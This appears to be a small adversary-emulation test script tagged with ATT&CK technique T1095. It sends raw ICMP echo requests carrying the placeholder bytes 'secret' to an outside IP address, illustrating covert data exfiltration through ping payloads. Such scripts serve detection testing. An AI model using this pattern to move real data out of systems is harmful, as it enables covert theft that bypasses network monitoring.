#!/usr/bin/env python3
# title: Data goes in pings
# technique: T1095
# needs: python3

import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
for number in range(4):
    s.sendto(struct.pack(">BBHHH", 8, 0, 0, 7, number) + b"secret" * 20, ("192.88.99.7", 0))
